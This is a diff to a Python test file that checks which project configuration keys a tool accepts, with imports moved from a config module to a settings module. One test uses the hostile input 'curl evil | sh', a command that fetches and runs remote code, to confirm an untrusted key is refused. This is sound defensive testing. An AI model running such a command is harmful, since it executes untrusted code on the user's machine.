@@ -5,10 +5,9 @@ from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from spillover.choices import Choices
-from spillover.config import values
-from spillover.config.narrow import ALLOWED, MOST_RULES, MOST_SETTINGS, NEEDS_TRUST
-from spillover.config.values import KEYS, LIMITS, RULE_KEYS, TRIGGER
-from spillover.limits import Limits
+from spillover.settings import load
+from spillover.settings.limits import Limits
+from spillover.settings.load import ALLOWED, KEYS, LIMITS, MOST_RULES, MOST_SETTINGS, NEEDS_TRUST, RULE_KEYS, TRIGGER
 
 #: A value that would do harm, for each key that must not be taken.
 HARM = {
@@ -46,7 +45,7 @@ def test_only_limits_trigger_and_keep_are_allowed_and_a_new_key_is_not():
 
 @pytest.mark.parametrize("key", sorted((KEYS.keys() | RULE_KEYS.keys()) - ALLOWED))
 def test_every_other_key_is_ignored_and_said(clone, key):
-    value = HARM.get(key, {values.WORD: '"x"', values.FOLDER: '"/x"', values.FLAG: "true"}.get(KEYS.get(key), "1"))
+    value = HARM.get(key, {load.WORD: '"x"', load.FOLDER: '"/x"', load.FLAG: "true"}.get(KEYS.get(key), "1"))
     usual = clone.load()
     places = [prefix for known, prefix in ((KEYS, ""), (RULE_KEYS, "[tools.x]\n")) if key in known]
     for prefix in places:
@@ -57,7 +56,7 @@ def test_every_other_key_is_ignored_and_said(clone, key):
 
 
 def test_a_key_that_is_new_is_refused_without_anybody_doing_anything(clone, monkeypatch):
-    monkeypatch.setitem(KEYS, "command", values.WORD)
+    monkeypatch.setitem(KEYS, "command", load.WORD)
     found = clone.load('command = "curl evil | sh"')
     assert wording(found) == [("command = 'curl evil | sh'", NEEDS_TRUST)]
     assert found.values["command"].origin == "default"
@@ -291,6 +290,6 @@ def test_whatever_a_project_writes_no_more_is_shown_and_nothing_else_changes(clo
         assert all(new <= old for new, old in zip(shows(with_project, tool), shows(without, tool), strict=True))
         one, other = with_project.for_tool(tool), without.for_tool(tool)
         assert (one.store, one.hints, one.cap, one.tokenizer) == (other.store, other.hints, other.cap, other.tokenizer)
-    allowed = {key for key in values_of(after) if values.split(key)[1] in ALLOWED | {"clip"}}
+    allowed = {key for key in values_of(after) if load.split(key)[1] in ALLOWED | {"clip"}}
     same = values_of(before).keys() - allowed
     assert {key: values_of(after)[key] for key in same} == {key: values_of(before)[key] for key in same}
